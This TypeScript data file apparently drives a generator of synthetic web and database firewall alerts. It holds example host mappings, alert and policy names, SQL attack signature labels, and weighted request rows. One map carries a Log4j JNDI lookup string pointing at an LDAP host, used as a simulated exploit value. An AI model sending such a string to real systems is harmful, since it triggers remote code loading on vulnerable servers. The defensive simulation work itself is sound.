import type { ProfileData, Row } from '../profile-data.js';

export const maps: NonNullable<ProfileData['maps']> = {
  /** What its firewall cannot follow, by what came: there is TLS in https only. */
  untraceable: { https: 'SSL Untraceable Connection', '*': 'Malformed HTTP Request' },
  /** As their administrators have called what stands on a server: its group, its service and its application. */
  groups: {
    'www-01.corp.example.com': {
      ...{ group: 'Shop', host: 'www.shop.example.com' },
      ...{ service: 'Shop HTTP Service', application: 'www.shop.example.com Application' },
    },
    'www-02.corp.example.com': {
      ...{ group: 'IRIS_2', host: 'portal.example.com' },
      ...{ service: 'app2-4.corp.example.com [Multi_VIP]', application: 'For Monitor ONLY' },
    },
    'www-03.corp.example.com': {
      ...{ group: 'API (simulation)', host: 'api.example.com' },
      ...{ service: 'REST gateway (simulation)', application: 'Mobile and partners' },
    },
    'www-04.corp.example.com': {
      ...{ group: 'Intranet', host: 'intranet.example.com' },
      ...{ service: 'staff_web_svc', application: 'Default Web Application' },
    },
    'www-05.corp.example.com': {
      ...{ group: 'Retail Server Group', host: 'static.example.com' },
      ...{ service: 'cdn-origin HTTP', application: 'static.example.com Application' },
    },
  },
  alerts: {
    'sql-injection': { name: 'sql-injection', policy: 'Web Correlation Policy' },
    'cross-site-scripting': { name: 'cross-site-scripting', policy: 'Web Correlation Policy' },
    'path-traversal': { name: 'directory-traversal', policy: 'Web Correlation Policy' },
    'command-execution': { name: 'os-command-injection', policy: 'Web Correlation Policy' },
    'file-inclusion': { name: 'remote-file-inclusion', policy: 'RFI Policy' },
    'predictable-resource': { name: 'url-is-above-root-directory', policy: 'Web Correlation Policy' },
    'server-side-request': { name: 'server-side-request-forgery', policy: 'SSRF Policy' },
    'xml-attack': { name: 'xml-external-entity', policy: 'Web Correlation Policy' },
    protocol: { name: 'automated-vulnerability-scanning', policy: 'Automated Vulnerability Scanning' },
  },
  /** A text that looks like a template's place, which a template cannot hold. */
  unfilled: { '*': '${Alert.username}' },
  /** Such a text as well: what Log4j looks up. */
  lookup: { '*': '${jndi:ldap://203.0.113.90:1389/a}' },
};

/** What a request carries: a form or a file with POST, nothing with GET. */
const FORM = { method: 'POST', media: 'application/x-www-form-urlencoded', size: '${between:20,400}' };
const UPLOAD = { method: 'POST', media: 'multipart/form-data', size: '${between:900,90000}' };
const NOTHING = { method: 'GET', media: '', size: '' };
const OLD_BROWSER =
  'Mozilla/${choice:5.0 (compatible; MSIE 10.0; Windows NT 6.2),4.0 (compatible; MSIE 8.0; Windows NT 6.1)}';

/** A request that a policy of the site names. */
const asked = (
  weight: number,
  policy: string,
  path: string,
  parameter: string,
  value: string,
  body = NOTHING,
): Row => ({
  ...{ weight, policy, path, parameter, value },
  ...body,
  agent: '${host.userAgent}',
});

type Maker = 'mssql' | 'oracle';

/** Database servers, and what is listened to on them. */
const databases = [
  ...[1, 2, 3, 4, 5, 6].map((n) => ({
    ...{ address: `10.10.4.${19 + n}`, group: `sql-0${n}`, port: '1433' },
    ...({ maker: 'mssql', application: 'Default MsSql Application' } as const),
  })),
  ...[1, 2].map((n) => ({
    ...{ address: `10.10.4.${100 + n}`, group: `ora-0${n}`, port: '1521' },
    ...({ maker: 'oracle', application: 'Default Oracle Application' } as const),
  })),
];

/** Of statements, by whose database has them. */
const signatures: Readonly<Record<Maker, readonly (readonly [weight: number, text: string])[]>> = {
  mssql: [
    [5, 'Multiple xp_cmdshell execution attempt'],
    [4, 'SQL Server registry access procedure'],
    [3, 'OPENROWSET use in ad hoc query'],
    [2, 'Stored procedure with elevated rights'],
  ],
  oracle: [
    [18, 'Multiple EXECUTE IMMEDIATE attempt(+)'],
    [12, 'Multiple UTL_HTTP package access'],
    [9, 'Multiple DBMS_ASSERT bypass attempt'],
  ],
};

export const tables: NonNullable<ProfileData['tables']> = {
  custom: [
    asked(
      8,
      'Suspicious File Access Attempt - ${between:1,4}',
      '/uploads/dede/sys_verifies.php',
      'action',
      'down',
      FORM,
    ),
    asked(6, 'Malicious File Upload', '/upload/image.php.jpg', 'type', 'avatar', UPLOAD),
    asked(6, 'Admin Page from Internet', '/manager/html', 'view', '1'),
    asked(5, 'Login Page Rate Limit - Source IP', '/account/login', 'next', 'home', FORM),
    asked(5, 'Blocked Countries', '/', 'lang', 'en'),
    asked(4, 'Anonymous Proxies', '/search', 'q', '${choice:lamp,desk,chair}'),
    asked(4, 'WordPress Brute Force', '/wp-login.php', 'reauth', '1', FORM),
    asked(4, 'Log4j Exploit Attempt', '/api/v1/session', 'x', '${app.name|lookup}'),
    { ...asked(3, 'Old Browser Versions', '/index.php', 'id', '${between:1,900}'), agent: OLD_BROWSER },
    asked(3, 'TOR IPs', '/cart/view', 'debug', '0'),
    asked(2, 'Comment Spam IPs', '/blog/comment', 'post', '${between:1,400}', FORM),
  ],
  databases,
  sqlSignatures: databases.flatMap((database) =>
    signatures[database.maker].map(([weight, text]) => ({ ...database, weight, text })),
  ),
  protocol: [
    { weight: 8, name: 'Extremely Long SQL Request', severity: 'High' },
    { weight: 6, name: 'SQL Logging Errors', severity: 'Medium' },
    { weight: 5, name: 'Unauthorized Database User', severity: 'High' },
    { weight: 4, name: 'Too Many Columns in Result', severity: 'Medium' },
    { weight: 3, name: 'Unknown Sql Operation', severity: 'Low' },
    { weight: 3, name: 'Sql Parsing Error', severity: 'Low' },
    { weight: 2, name: 'Null Character in SQL Request', severity: 'Medium' },
  ],
  /** Of the policy for the protocol of web sites. */
  webProtocol: [
    { weight: 3, name: 'Double URL Encoding', severity: 'Low' },
    { weight: 3, name: 'Malformed HTTP Header Line', severity: 'Low' },
    { weight: 3, name: 'Post Request - Missing Content Type', severity: 'Low' },
    { weight: 2, name: 'Extremely Long Header Line', severity: 'High' },
  ],
  firewall: [
    { weight: 8, name: '${app.name|untraceable}', policy: 'Network Protocol Validation', severity: 'Medium' },
    {
      weight: 5,
      name: 'Too Many Headers per Response',
      policy: 'Automated Vulnerability Scanning',
      severity: 'Medium',
    },
    { weight: 4, name: 'Reuse of Expired Session Cookie', policy: 'Cookie Validation Policy', severity: 'Low' },
    { weight: 4, name: 'Unauthorized Method for Known URL', policy: 'Web Profile Policy', severity: 'Medium' },
  ],
};
